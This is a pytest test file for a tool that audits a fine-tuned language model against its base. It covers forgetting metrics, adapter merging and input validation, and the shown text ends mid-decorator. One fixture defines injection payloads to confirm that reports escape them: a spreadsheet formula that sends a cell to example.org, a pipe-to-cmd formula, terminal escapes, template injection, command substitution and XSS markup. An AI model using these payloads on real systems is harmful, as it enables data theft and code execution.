"""An audit of tiny random models: what it measures, what it keeps, and what it refuses, each by name."""

import csv
import json
import math
import shutil
from pathlib import Path
from types import SimpleNamespace

import huggingface_hub
import pandas as pd
import pytest
import torch
from peft import LoraConfig, get_peft_model
from peft.utils import save_and_load
from ruamel.yaml import YAML
from safetensors.torch import load_file, save_file
from transformers import Qwen2Config, Qwen2ForCausalLM

from evaluation.encode import encode_rolling
from experiments.audit import adapters, limits, models, progress, tokenizers
from experiments.audit.scoring import Folders
from experiments.commands import audit
from experiments.model import weights
from experiments.model.random_models import build, byte_tokenizer
from experiments.study import schema
from experiments.study.paths import HERE
from experiments.training import hardware
from methods.errors import UserError
from methods.tools.files import read_json
from tests.experiments import hub_folder, hub_server

ROWS = HERE / "experiments/studies/demo/rows"


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Path:
    """A project's root with the demo's tasks, `moved` among its models, and folders of models beside it."""
    root = tmp_path_factory.mktemp("world")
    raw = YAML(typ="safe").load(HERE / "experiments/studies/demo/params.yaml")
    raw["models"]["moved"] = {"source": f"path:{root}/moved", "dtype": "float32"}
    raw["tasks"]["colours"] |= {"test": 12, "chance": 0.0}  # a chance of 0 is below whatever a random model scores
    raw["tasks"]["sums"] = raw["tasks"]["colours"] | {"rows": {"jsonl": str(ROWS / "sums.jsonl")}, "test": 10}
    raw["tasks"]["colours"] = raw["tasks"]["colours"] | {"rows": {"jsonl": str(ROWS / "colours.jsonl")}}
    (root / "hostile.jsonl").write_text("".join(json.dumps(row) + "\n" for row in hostile()))
    raw["tasks"]["hostile"] = raw["tasks"]["colours"] | {
        "test": 24,
        "task": raw["tasks"]["colours"]["task"] | {"doc_to_text": "{{question}}"},
        "rows": {"jsonl": str(root / "hostile.jsonl")},
        "probe": 0,
    }
    raw["domains"]["sums"] |= {"rows": {"jsonl": str(ROWS / "sums.jsonl")}}
    raw["general"] |= {"rows": {"jsonl": str(ROWS / "text.jsonl")}, "test": 8}
    YAML().dump(raw, root / "params.yaml")
    save(build("llama", seed=0), root / "base")
    save(moved(build("llama", seed=0)), root / "moved")
    save(build("llama", seed=9), root / "other")
    save(build("gptj", seed=0), root / "gptj")
    save(build("llama", seed=0, num_hidden_layers=1), root / "shallow")
    adapter(root / "base", root / "adapter")
    return root


HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1)',
    "@SUM(1)|cmd",
    "+1",
    "-2\r=3",
    "\t=\x1b]52;c;ZXZpbA==\x07\x1b[2J{{ cycler.__init__.__globals__.os }}",
    "$(touch trap) `touch trap`; ![x](http://example.org/a.png) {{7*7}} ${x}",
)
MARKUP = "</p><script>alert(1)</script><img src=x onerror=alert(1)>"


def hostile() -> list[dict]:
    return [
        {"question": f"{text}{MARKUP} {number}", "choices": [f"{text}a", f"{text}b"], "gold": number % 2}
        for number, text in enumerate(HOSTILE * 4)
    ]


def save(model, folder: Path, tokenizer=None) -> Path:
    model.save_pretrained(folder)
    (tokenizer or byte_tokenizer()).save_pretrained(folder)
    return folder


def moved(model, *, by: float = 0.05):
    with torch.no_grad(), torch.random.fork_rng():
        torch.manual_seed(3)
        for p in model.parameters():
            p.add_(by * torch.randn_like(p))
    return model


def adapter(base: Path, folder: Path, *, named: str | None = None, **settings) -> Path:
    """An adapter as peft's own script leaves it, with factors that are not zero."""
    model = weights.load_model(base, dtype="float32")
    model.name_or_path = str(base) if named is None else named
    with torch.random.fork_rng():
        torch.manual_seed(4)
        config = LoraConfig(r=3, lora_alpha=6, task_type="CAUSAL_LM", init_lora_weights=False, **settings)
        get_peft_model(model, config).save_pretrained(folder)
    return folder


def run(world: Path, base: str, tuned: str, **options) -> tuple[int, dict]:
    """The exit status and audit.json."""
    out = world / "pages" / f"{Path(base).name}-{Path(tuned).name}.html"
    names = [name if name == "moved" else str(world / name) for name in (base, tuned)]
    status = audit.main(*names, **{"tasks": "colours,sums", "root": world, "out": str(out)} | options)
    return status, read_json(out.with_suffix(".json"))


@pytest.fixture
def loaded(monkeypatch) -> list[str]:
    """The folders of which a whole model is loaded."""
    folders, real = [], weights.load_model
    monkeypatch.setattr(
        weights, "load_model", lambda folder, **how: (folders.append(folder.name), real(folder, **how))[1]
    )
    return folders


def test_a_model_against_itself_lost_exactly_nothing(world, loaded):
    status, found = run(world, "base", "base", max_forgetting=0.0, max_nll_lost=0.0, confidence=True)
    assert status == 0 and found["verdict"]["exceeded"] == [] and len(loaded) == 1
    nothing = {"value": 0.0, "low": 0.0, "high": 0.0}
    assert found["overall"]["forgetting"] == found["overall"]["gold_nll_lost"] == found["tasks"][0]["lost"] == nothing
    assert [found["general"][key]["value"] for key in ("nll_lost", "bits_per_byte_lost", "kl", "kl_reverse")] == [0] * 4
    assert found["movement"]["overall"]["distance"] == 0 and found["flips"] == []
    assert found["tokenizers"] == [] and found["general"]["same_ids"]


@torch.no_grad()
def test_general_text_is_what_a_plain_computation_gives(world):
    _, found = run(world, "base", "moved")
    texts = [json.loads(line)["text"] for line in next(world.glob("work/local/audit/rows/*/general.jsonl")).open()]
    models = [weights.load_model(world / name, dtype="float32") for name in ("base", "moved")]
    nats, kl, count, size = [0.0, 0.0], [0.0, 0.0], 0, 0
    for text in texts:
        context, ids = encode_rolling(byte_tokenizer(), text)
        logits = [model(torch.tensor([context + ids[:-1]])).logits[0].double().log_softmax(-1) for model in models]
        for who, own in enumerate(logits):
            nats[who] -= own[range(len(ids)), ids].sum().item()
            kl[who] += (own.exp() * (own - logits[1 - who])).sum().item()
        count, size = count + len(ids), size + len(text.encode())
    general = found["general"]
    assert (general["n"], general["bytes"], general["tokens"]) == (8, size, {"base": count, "tuned": count})
    assert general["nll_lost"]["value"] == pytest.approx((nats[1] - nats[0]) / count, abs=1e-5)
    assert general["bits_per_byte_lost"]["value"] == pytest.approx((nats[1] - nats[0]) / size / math.log(2), abs=1e-5)
    assert [general[key]["value"] for key in ("kl", "kl_reverse")] == pytest.approx(
        [each / count for each in kl], rel=1e-3
    )
    assert general["kl"]["low"] < general["kl"]["value"] < general["kl"]["high"]


def test_tasks_and_movement_are_differences_of_the_two_models(world):
    _, found = run(world, "base", "moved")
    tasks = {task["name"]: task for task in found["tasks"]}
    assert {name: task["n"] for name, task in tasks.items()} == {"colours": 12, "sums": 10}
    for task in tasks.values():
        answers = task["answers"]
        assert answers["right"] == round(task["base"] * task["n"])
        assert task["lost"]["value"] == pytest.approx(task["base"] - task["tuned"])
        assert task["base"] - task["tuned"] == pytest.approx((answers["lost"] - answers["gained"]) / task["n"])
        flips = [flip["kind"] for flip in found["flips"] if flip["task"] == task["name"]]
        assert (flips.count("lost"), flips.count("gained")) == (answers["lost"], answers["gained"])
    for key in ("lost", "gold_nll_lost"):
        mean = sum(task[key]["value"] for task in tasks.values()) / 2
        assert found["overall"][{"lost": "forgetting"}.get(key, key)]["value"] == pytest.approx(mean)
    base, tuned = (load_file(world / name / "model.safetensors") for name in ("base", "moved"))
    moved = math.sqrt(sum((tuned[name] - base[name]).double().square().sum().item() for name in base))
    size = math.sqrt(sum(base[name].double().square().sum().item() for name in base))
    assert found["movement"]["overall"]["relative"] == pytest.approx(moved / size, rel=1e-4)


def test_scores_are_kept_and_an_audit_again_loads_no_model(world, loaded):
    _, first = run(world, "base", "moved")
    loaded.clear()
    _, again = run(world, "base", "moved")
    assert loaded == [] and again["base"]["kept"] and again["tuned"]["kept"]
    same = first.keys() - {"seconds", "when", "base", "tuned"}
    assert {key: first[key] for key in same} == {key: again[key] for key in same}
    run(world, "base", "moved", batch_size=3)
    assert sorted(loaded)[0] == "base"  # other settings are other scores


def test_the_bases_scores_serve_another_tuned_model_and_a_copy_of_the_base(world, loaded, tmp_path):
    run(world, "base", "moved")
    loaded.clear()
    shutil.copytree(world / "base", world / "copy")
    save(moved(build("llama", seed=0), by=0.01), world / "nearer")
    _, found = run(world, "copy", "nearer")
    assert found["base"]["kept"] and not found["tuned"]["kept"]
    (world / "copy" / "model.safetensors").write_bytes((world / "other" / "model.safetensors").read_bytes())
    _, found = run(world, "copy", "nearer")
    assert not found["base"]["kept"]


def test_an_adapter_is_merged_into_its_base(world, tmp_path):
    out, at = tmp_path / "merged", world / "adapter"
    adapters.merge(at, base=world / "base", tokenizer=byte_tokenizer(), out=out, given="it", rows=None)
    files = (world / "base/model.safetensors", at / "adapter_model.safetensors", out / "model.safetensors")
    base, factors, merged = map(load_file, files)
    changed = {name for name in base if not torch.equal(base[name], merged[name])}
    assert changed == {f"model.layers.{k}.self_attn.{part}_proj.weight" for k in range(2) for part in "qv"}
    for name in changed:
        a, b = (factors[f"base_model.model.{name.removesuffix('weight')}lora_{key}.weight"] for key in "AB")
        assert torch.allclose(merged[name], base[name] + 2 * b @ a, atol=1e-6)
    shutil.copytree(out, world / "by-hand")
    by_adapter, by_hand = (run(world, "base", name)[1] for name in ("adapter", "by-hand"))
    assert by_adapter["tuned"]["weights_sha256"] == by_hand["tuned"]["weights_sha256"]
    for key in ("tasks", "overall", "general", "flips", "movement"):
        assert by_adapter[key] == by_hand[key]
    assert not list((world / "work/local/audit").glob("merged-*"))


def test_an_adapter_is_rounded_to_the_bases_dtype(world, tmp_path):
    base = save(build("llama", seed=0, dtype=torch.bfloat16), tmp_path / "half")
    at = adapter(base, tmp_path / "adapter", target_modules=["down_proj"])
    adapters.merge(at, base=base, tokenizer=byte_tokenizer(), out=tmp_path / "out", given="it", rows=None)
    name = "model.layers.0.mlp.down_proj."
    factors, before = (
        load_file(at / "adapter_model.safetensors"),
        load_file(base / "model.safetensors")[f"{name}weight"],
    )
    a, b = (factors[f"base_model.model.{name}lora_{key}.weight"].float() for key in "AB")
    after = load_file(tmp_path / "out/model.safetensors")[f"{name}weight"]
    assert after.dtype == torch.bfloat16 and torch.equal(after, (before.float() + 2 * b @ a).bfloat16())


@torch.no_grad()
def merged_beside(
    tmp_path: Path, *, tokens: int, tied: bool, named: str | None = None, **settings
) -> tuple[torch.Tensor, torch.Tensor]:
    """Logits of the base with an adapter beside it, and of the model that an audit makes of the two."""
    base = save(build("llama", seed=0, tie_word_embeddings=tied), tmp_path / "base")
    model, at = weights.load_model(base, dtype="float32"), tmp_path / "adapter"
    model.name_or_path = str(base)
    if tokens > 258:
        model.resize_token_embeddings(tokens, mean_resizing=False)
    with torch.random.fork_rng():
        torch.manual_seed(5)
        config = LoraConfig(r=3, task_type="CAUSAL_LM", init_lora_weights=False, **settings)
        adapted = get_peft_model(model, config).eval()
        for p in adapted.parameters():
            if p.requires_grad:
                p.add_(0.02 * torch.randn_like(p))
    adapted.save_pretrained(at)
    if named:
        config = read_json(at / "adapter_config.json") | {"base_model_name_or_path": named}
        (at / "adapter_config.json").write_text(json.dumps(config))
    ids = torch.tensor([list(b"What is said here?")])
    study = audit._study(tmp_path)
    one = models.resolve(str(base), study=study, work=tmp_path)
    other = models.resolve(str(at), study=study, work=tmp_path, beside=one)
    with Folders(tmp_path) as folders:
        merged = weights.load_model(folders.of(other), dtype="float32")
    return adapted(ids).logits, merged(ids).logits


TRAINED = {"modules_to_save": ["embed_tokens", "lm_head"]}


@pytest.mark.thorough
@pytest.mark.parametrize("tied", [True, False])
@pytest.mark.parametrize(
    ("tokens", "settings"),
    [
        (258, {"use_dora": True}),
        (258, {"use_rslora": True, "target_modules": "all-linear"}),
        (260, TRAINED),
        (260, {"modules_to_save": ["embed_tokens"]}),
        (260, {"trainable_token_indices": [258, 259]}),
    ],
)
def test_adapters_of_every_kind_give_what_peft_gives(tmp_path, tokens, settings, tied):
    beside, merged = merged_beside(tmp_path, tokens=tokens, tied=tied, **settings)
    assert torch.allclose(beside, merged, atol=1e-4)


def test_an_adapter_of_a_base_on_the_hub_brings_the_rows_of_added_tokens(tmp_path, monkeypatch):
    asked = []
    monkeypatch.setattr(save_and_load, "check_file_exists_on_hf_hub", lambda *name, **_: asked.append(name))
    beside, merged = merged_beside(tmp_path, tokens=260, tied=True, named="owner/base")
    assert beside.shape == (1, 18, 260) and torch.allclose(beside, merged, atol=1e-4)
    assert ("owner/base", "config.json") not in asked


def test_an_adapter_with_an_embedding_of_its_own_and_one_whose_merging_would_change_the_head(tmp_path):
    beside, merged = merged_beside(tmp_path / "a", tokens=260, tied=False, **TRAINED)
    assert beside.shape == (1, 18, 260) and torch.allclose(beside, merged, atol=1e-4)
    with pytest.raises(UserError, match="cannot be merged into its base: the merged model predicts something else"):
        merged_beside(tmp_path / "b", tokens=258, tied=True, target_modules=["q_proj", "embed_tokens"])


def test_an_adapters_own_copy_of_the_tokenizer_is_the_bases(world, tmp_path):
    """Without the base's config transformers would make it of another class than the base's."""
    sizes = {"hidden_size": 16, "intermediate_size": 16, "num_hidden_layers": 1, "num_attention_heads": 2}
    qwen = Qwen2ForCausalLM(Qwen2Config(vocab_size=260, num_key_value_heads=2, **sizes))
    base = save(qwen, tmp_path / "base")
    at = adapter(base, tmp_path / "adapter", target_modules=["q_proj"])
    byte_tokenizer().save_pretrained(at)
    study = audit._study(world)
    one = models.resolve(str(base), study=study, work=tmp_path)
    other = models.resolve(str(at), study=study, work=tmp_path, beside=one)
    assert tokenizers.compare(one.tokenizer, other.tokenizer).sentences == []


@pytest.fixture(scope="module")
def talkative(world) -> Path:
    """The moved model with two tokens more, its embedding resized, and a chat template."""
    tokenizer, model = byte_tokenizer(), moved(build("llama", seed=0))
    tokenizer.add_special_tokens({"additional_special_tokens": ["<|user|>", "<|end|>"]})
    tokenizer.chat_template = "{% for m in messages %}<|user|>{{ m.content }}<|end|>{% endfor %}"
    model.resize_token_embeddings(260, mean_resizing=False)
    return save(model, world / "talkative", tokenizer)


def test_added_tokens_are_said_and_text_is_measured_in_bits_per_byte(world, talkative):
    _, found = run(world, "base", "talkative")
    _, same = run(world, "base", "moved")
    said = " ".join(found["tokenizers"])
    assert "2 tokens ('<|user|>', '<|end|>') that the base's lacks" in said
    assert "Only the tuned model has a chat template" in said and not found["general"]["same_ids"]
    general = found["general"]
    assert general["nll_lost"] is None and general["kl"] is None
    per_token = general["nats_lost_per_base_token"]["value"]
    assert per_token == pytest.approx(
        general["bits_per_byte_lost"]["value"] * math.log(2) * general["bytes"] / general["tokens"]["base"]
    )
    assert run(world, "base", "talkative", max_nll_lost=per_token + 1e-6)[0] == 0
    # the new tokens take some probability from every other one
    assert general["bits_per_byte_lost"]["value"] > same["general"]["bits_per_byte_lost"]["value"]
    assert found["movement"]["rows"] == [["model.embed_tokens.weight", 258, 260]]
    assert found["movement"]["overall"] == same["movement"]["overall"]  # of the rows that both have
    assert "bits per byte lost" in (world / "pages/base-talkative.html").read_text()


def test_weights_saved_alone_take_the_bases_tokenizer_and_unused_rows_leave_no_kl(world, capsys):
    model = moved(build("llama", seed=0))
    model.resize_token_embeddings(320, mean_resizing=False)
    model.save_pretrained(world / "alone")
    _, found = run(world, "base", "alone")
    assert "alone has no tokenizer: that of" in capsys.readouterr().out
    assert found["general"]["same_ids"] and found["general"]["nll_lost"] and found["general"]["kl"] is None
    assert "different numbers of rows for unused tokens" in (world / "pages/base-alone.html").read_text()


@pytest.mark.thorough
def test_a_damaged_file_of_kept_scores_is_made_again(world, loaded):
    _, first = run(world, "base", "moved")
    for file in (world / "work/local/audit/scores").glob("*/items.csv.gz"):
        file.write_bytes(file.read_bytes()[:40])
    loaded.clear()
    _, again = run(world, "base", "moved")
    assert loaded == ["base", "moved"] and again["tasks"] == first["tasks"] and again["general"] == first["general"]


def test_memory_and_disk_without_room_are_refused_by_name(world, monkeypatch):
    with monkeypatch.context() as patched:
        patched.setattr(hardware, "available_memory", lambda where: 1000)
        with pytest.raises(UserError, match=r"too little memory to score .*base: 0.0 GiB needed on cpu in float32"):
            run(world, "base", "adapter", batch_size=11)
    monkeypatch.setattr(shutil, "disk_usage", lambda folder: SimpleNamespace(free=1000))
    with pytest.raises(UserError, match="too little disk for .*adapter, merged"):
        run(world, "base", "adapter", batch_size=11)


@pytest.mark.thorough
def test_another_template_alone_is_said_and_changes_nothing(world):
    tokenizer = byte_tokenizer()
    tokenizer.chat_template = "{{ messages[0].content }}"
    save(moved(build("llama", seed=0)), world / "template", tokenizer)
    _, found = run(world, "base", "template")
    _, same = run(world, "base", "moved")
    assert found["tokenizers"] == ["Only the tuned model has a chat template."]
    assert found["general"] == same["general"]


def test_prompts_in_chat_templates(world, talkative, tmp_path, capsys):
    plain = run(world, "base", "talkative")[1]
    _, found = run(world, "base", "talkative", chat_template=True)
    assert f"base has no chat template: that of {talkative} is used" in capsys.readouterr().out
    assert (
        plain["plain_prompts"]
        and not found["plain_prompts"]
        and found["scoring"]["chat_template"]
        and found["general"] == plain["general"]
    )
    nats = [[task["gold_nll_lost"]["value"] for task in one["tasks"]] for one in (plain, found)]
    assert nats[0] != nats[1]
    file = tmp_path / "own.jinja"
    file.write_text(talkative.joinpath("chat_template.jinja").read_text())
    assert run(world, "base", "talkative", chat_template=str(file))[1]["tasks"] == found["tasks"]
    with pytest.raises(UserError, match="--chat-template: neither .*base nor moved has a chat template"):
        run(world, "base", "moved", chat_template=True)


def test_tasks_and_groups_of_lm_eval_by_name_without_a_params_yaml(world, tmp_path, monkeypatch):
    text = tmp_path / "text.txt"
    text.write_text("A passage of text.\n\nAnother passage, which is longer.\n\nAnd one more of them.\n")
    empty = audit._study(tmp_path)
    contrary = build("llama", seed=0)
    with torch.no_grad():
        contrary.model.norm.weight.mul_(-3)  # it likes least what the base likes most
    models_given = [str(world / "base"), str(save(contrary, tmp_path / "contrary"))]
    options = {"root": tmp_path, "text": str(text), "out": str(tmp_path / "page.html")}
    with pytest.raises(UserError, match="unknown suite 'general'.*--tasks A,B,C"):
        audit.main(*models_given, **options)
    with pytest.raises(UserError, match="tasks.hellaswag: task hellaswag of lm-eval wants data set Rowan/hellaswag"):
        audit.main(*models_given, tasks="hellaswag", **options)
    hub = schema.Data(hub=str(hub_folder.made(tmp_path / "hub")))
    monkeypatch.setattr(audit, "_study", lambda root: empty.model_copy(update={"data": hub}))
    audit.main(*models_given, tasks="leaderboard_musr,hellaswag,mmlu_anatomy", rows=9, **options)
    found = read_json(tmp_path / "page.json")
    assert {task["name"]: task["n"] for task in found["tasks"]} == {
        "leaderboard_musr": 9,
        "hellaswag": 5,
        "mmlu_anatomy": 3,
    }
    for task in found["tasks"]:
        flips = [flip["kind"] for flip in found["flips"] if flip["task"] == task["name"]]
        assert {kind: flips.count(kind) for kind in ("lost", "gained")}.items() <= task["answers"].items()
    assert found["flips"] and all(flip["question"] and flip["right"] for flip in found["flips"])
    with pytest.raises(UserError, match="unknown task 'helaswag'|--tasks.*'helaswag'"):
        audit.main(*models_given, tasks="helaswag", **options)


@pytest.mark.thorough
def test_another_end_of_text_is_said_and_decides_only_where_texts_begin_with_it(world):
    """The byte tokenizer has no BOS, so that a text begins with its EOS."""
    other_end, bos_too = byte_tokenizer(), byte_tokenizer()
    other_end.eos_token = "<|pad|>"
    save(moved(build("llama", seed=0)), world / "other-end", other_end)
    _, found = run(world, "base", "other-end")
    assert found["tokenizers"] == ["The eos token is '<|eos|>' in the base and '<|pad|>' in the tuned model."]
    assert not found["general"]["same_ids"] and found["general"]["kl"] is None
    bos_too.bos_token = "<|eos|>"
    save(moved(build("llama", seed=0)), world / "bos-too", bos_too)
    _, found = run(world, "base", "bos-too")
    assert found["tokenizers"] == ["The bos token is None in the base and '<|eos|>' in the tuned model."]
    assert found["general"] == run(world, "base", "moved")[1]["general"]


def test_limits_decide_the_exit_status(world):
    _, found = run(world, "base", "moved")
    lost, nats = found["overall"]["forgetting"], found["general"]["nll_lost"]
    assert run(world, "base", "moved", max_forgetting=lost["value"], max_nll_lost=nats["value"])[0] == 0
    assert run(world, "base", "moved", max_forgetting=lost["value"] - 1e-6)[0] == 1
    for limit, passes in (
        ({"max_forgetting": lost["value"], "confidence": True}, False),
        ({"max_forgetting": lost["high"], "confidence": True}, True),
        ({"max_nll_lost": nats["value"] - 1e-6}, False),
        ({"max_nll_lost": nats["high"], "confidence": True}, True),
        ({"max_forgetting": 1.0, "max_nll_lost": -1.0}, False),
    ):
        allowed = limits.checked(**{"max_forgetting": None, "max_nll_lost": None, "confidence": False} | limit)
        assert (limits.verdict(found, allowed)["exceeded"] == []) == passes, limit
    allowed = limits.checked(max_forgetting=1.0, max_nll_lost=9.0, confidence=False)
    unknown = found | {"overall": found["overall"] | {"forgetting": None}, "general": None}
    said = limits.verdict(unknown, allowed)["exceeded"]
    assert ["no task is above chance" in said[0], "give --text FILE" in said[1]] == [True, True]


def test_the_page_is_one_file_and_flips_are_beside_it_with_their_text(world, capsys):
    _, found = run(world, "base", "moved", max_forgetting=-1.0)
    said = capsys.readouterr().out
    page, flips = (world / "pages" / f"base-moved.{end}" for end in ("html", "flips.csv"))
    table, text = pd.read_csv(flips), page.read_text(encoding="utf-8")
    assert len(table) == len(found["flips"]) > 0
    assert all(
        flip["question"].startswith("Question: ") and flip["right"] != flip["tuned"]
        for flip in found["flips"]
        if flip["kind"] == "lost"
    )
    assert "http" not in text.partition("</style>")[2] and "<script" not in text and "src=" not in text
    for line in (said, text):
        assert "nats per token lost" in line and "colours" in line
    assert "FAIL  forgetting" in said and "Does not pass." in text
    first = found["flips"][0]
    assert first["question"].splitlines()[0] in text


def test_hostile_questions_reach_neither_the_page_nor_a_spreadsheet_nor_the_screen(world, capsys):
    _, found = run(world, "base", "other", tasks="hostile")
    said = capsys.readouterr().out
    page, file = (world / "pages" / f"base-other.{end}" for end in ("html", "flips.csv"))
    texts = {flip[key] for flip in found["flips"] for key in ("question", "right", "tuned")}
    assert len(found["flips"]) > 1 and {text.strip()[0] for text in texts} <= set("=@+-$")
    with file.open(newline="") as rows:
        cells = [cell for row in csv.reader(rows) for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "@") or cell[:1] in ("+", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-2")] and any(cell.startswith("'") for cell in cells)
    shown = page.read_text(encoding="utf-8").partition("</style>")[2]
    assert "<script" not in shown and "<img" not in shown and "&lt;script&gt;alert(1)" in shown
    assert "\x1b" not in said and "\x07" not in said
    assert not list(world.rglob("trap")) and "49" not in "".join(texts)


def test_a_name_of_params_yaml_is_its_converted_model(world):
    _, by_folder = run(world, "base", "moved")
    assert (world / "work/models/moved/base.json").is_file()
    assert by_folder["tuned"]["source"] == f"path:{world}/moved"


@pytest.mark.thorough
def test_by_default_the_page_lies_among_the_results_and_no_other_pairs_is_written_over(world):
    for name in ("base", "other"):
        audit.main(str(world / name), str(world / "base"), tasks="colours", root=world, out=None)
    shutil.copytree(world / "other", world / "elsewhere/base")
    audit.main(str(world / "base"), str(world / "elsewhere/base"), tasks="colours", root=world)
    made = sorted(path.parent.name for path in (world / "results/audits").glob("*/audit.html"))
    assert made[0] == "base--base" and made[1].startswith("base--base-") and made[2] == "other--base"


def test_text_of_ones_own(world, tmp_path):
    lines = [{"content": f"Line {k} of a text of my own, which is not long.", "n": k} for k in range(6)]
    file = tmp_path / "mine.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    _, found = run(world, "base", "moved", text=str(file), text_rows=4)
    assert found["general"]["n"] == 4 and found["sources"]["general"]["source"] == f"local:{file}"
    plain = tmp_path / "mine.txt"
    plain.write_text("\ufeffOne passage\nof two lines.\n\n\nAnother passage.\n", encoding="utf-8")
    assert run(world, "base", "moved", text=str(plain))[1]["general"]["n"] == 2
    file.write_text('{"a": "one", "b": "two"}\n')
    with pytest.raises(UserError, match="has the columns a, b, and it is not clear which of them is the text"):
        run(world, "base", "moved", text=str(file))


def test_a_copy_of_the_base_beside_the_weights_is_not_read(world):
    shutil.copytree(world / "moved", world / "backed-up", dirs_exist_ok=True)
    shutil.copy(world / "base/model.safetensors", world / "backed-up/model_before.safetensors")
    _, found = run(world, "base", "backed-up")
    _, alone = run(world, "base", "moved")
    assert found["tuned"]["weights_sha256"] == alone["tuned"]["weights_sha256"]
    assert found["movement"] == alone["movement"] and found["general"] == alone["general"]


def test_a_setting_of_the_config_that_changes_what_the_weights_compute_is_said(world):
    shutil.copytree(world / "base", world / "stretched", dirs_exist_ok=True)
    config = read_json(world / "base/config.json") | {"rms_norm_eps": 0.01, "attention_dropout": 0.1}
    (world / "stretched/config.json").write_text(json.dumps(config))
    _, found = run(world, "base", "stretched")
    assert found["configs"] == ["The configs differ: rms_norm_eps is 1e-06 in the base and 0.01 in the tuned model."]
    assert found["movement"]["overall"]["distance"] == 0 < found["general"]["kl"]["value"]


def test_a_head_of_its_own_is_compared_with_the_embedding_that_was_the_head(world):
    tied, untied = (
        weights.load_model(world / "base", dtype="float32"),
        build("llama", seed=0, tie_word_embeddings=False),
    )
    untied.load_state_dict(tied.state_dict())
    with torch.no_grad():
        untied.lm_head.weight[:5] += 0.5
    save(untied, world / "untied")
    _, found = run(world, "base", "untied")
    assert found["movement"]["only_tuned"] == ["lm_head.weight"] and found["movement"]["only_base"] == []
    assert found["movement"]["overall"]["distance"] == pytest.approx(math.sqrt(5 * 32) * 0.5, rel=1e-5)
    assert "lm_head.weight is compared with the base&#39;s embedding" in (world / "pages/base-untied.html").read_text()


def pickled(folder: Path) -> None:
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(b"not read")


def cut_off(folder: Path) -> None:
    file = folder / "model.safetensors"
    file.write_bytes(file.read_bytes()[:-100])


def without_config(folder: Path) -> None:
    (folder / "config.json").unlink()


def checkpoints(folder: Path) -> None:
    files = list(folder.iterdir())
    for steps in (100, 20):
        shutil.copytree(folder, folder / f"checkpoint-{steps}", ignore=shutil.ignore_patterns("checkpoint-*"))
    for file in files:
        file.unlink()


def not_json(folder: Path) -> None:
    (folder / "config.json").write_text("{oops")


def gguf(folder: Path) -> None:
    (folder / "model.safetensors").rename(folder / "model-q4.gguf")


def not_a_number(folder: Path) -> None:
    tensors = load_file(folder / "model.safetensors")
    tensors["model.norm.weight"][0] = math.nan
    save_file(tensors, folder / "model.safetensors", metadata={"format": "pt"})


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (without_config, r"spoiled is not a model folder \(no config.json\)"),
        (checkpoints, "is not a model folder .*: give the one inside it, such as .*spoiled/checkpoint-100"),
        (not_json, "spoiled has no config.json that can be read .*: fetch it again"),
        (gguf, "spoiled holds no safetensors, and a GGUF file is not read"),
        (pickled, r"Its .bin files can run code and are not read.*`bin_sha256`"),
        (cut_off, "model.safetensors is no safetensors file, or damaged or cut off"),
        (not_a_number, "model.norm.weight is damaged, 1 of its 32 values are NaN or infinite"),
    ],
)
def test_a_folder_that_is_no_model_is_refused_by_name(world, spoil, message):
    shutil.rmtree(world / "spoiled", ignore_errors=True)
    shutil.copytree(world / "base", world / "spoiled")
    spoil(world / "spoiled")
    with pytest.raises(UserError, match=message):
        run(world, "base", "spoiled")


@pytest.mark.parametrize(
    ("base", "tuned", "message"),
    [
        ("base", "gptj", "base is a llama and .*gptj a gptj"),
        ("base", "shallow", "are llamas of different sizes: model.layers.1"),
        (
            "other",
            "adapter",
            "adapter is an adapter of another model: .* and BASE is .*other, whose weights are others",
        ),
        ("gptj", "adapter", "adapter is an adapter of another model"),
    ],
)
def test_models_that_do_not_belong_together_are_refused_by_name(world, base, tuned, message):
    with pytest.raises(UserError, match=message):
        run(world, base, tuned)


def test_an_adapters_base_is_known_by_its_name_or_said(world):
    adapter(world / "base", world / "of-the-hub", named="owner/other-name")
    with pytest.raises(
        UserError, match="names 'owner/other-name' as its base, and BASE is .*base. Give hub:owner/.*--same-base"
    ):
        run(world, "base", "of-the-hub")
    assert run(world, "base", "of-the-hub", same_base=True)[1]["tuned"]["adapter_of"] == "owner/other-name"
    adapter(world / "base", world / "alike", named="C:\\models\\Base")
    assert run(world, "base", "alike")[1]["tuned"]["adapter"] == "LORA, r 3, lora_alpha 6"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"task_type": "SEQ_CLS"}, "is an adapter for SEQ_CLS"),
        ({"base_model_name_or_path": 5}, "is no adapter's config .*base_model_name_or_path is 5"),
        ({"peft_type": "PROMPT_TUNING"}, "is a PROMPT_TUNING adapter, which peft cannot merge into a model's weights"),
        ({"r": 2}, "cannot be merged into its base by peft"),
        ({"target_modules": ["q_proj"]}, "is an adapter of another model: .* makes 4 tensors, and it has 8"),
    ],
)
def test_an_adapter_that_does_not_fit_is_refused_by_name(world, change, message):
    folder = world / "misfit"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(world / "adapter", folder)
    config = read_json(folder / "adapter_config.json") | change
    (folder / "adapter_config.json").write_text(json.dumps(config))
    with pytest.raises(UserError, match=f"misfit.*{message}"):
        run(world, "base", "misfit")


@pytest.mark.thorough
def test_adapters_of_both_sides_and_one_that_is_pickled(world):
    _, found = run(world, "adapter", "base")
    _, other = run(world, "base", "adapter")
    assert found["general"]["nll_lost"]["value"] == pytest.approx(-other["general"]["nll_lost"]["value"])
    shutil.copytree(world / "adapter", world / "pickled")
    (world / "pickled" / "adapter_model.safetensors").rename(world / "pickled" / "adapter_model.bin")
    with pytest.raises(UserError, match="pickled is a LORA adapter without .*adapter_model.bin can run code"):
        run(world, "base", "pickled")


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"rows": 0}, "--rows 0: it must be a whole number from 1"),
        ({"max_forgetting": 2.0}, "--max-forgetting 2.0: it must be a share of 1; 0.02 is 2 points"),
        ({"confidence": True}, "--confidence compares a limit"),
        ({"suite": "general"}, "--suite and --tasks are both given"),
        ({"tasks": " , "}, "names no task"),
        ({"out": "page.txt"}, r"--out page.txt: name the page, which ends in .html"),
        ({"dtype": "int8"}, "dtype 'int8' is no floating-point type"),
    ],
)
def test_bad_options_are_refused_by_name(world, options, message):
    with pytest.raises(UserError, match=message):
        run(world, "base", "moved", **options)


@pytest.mark.parametrize(
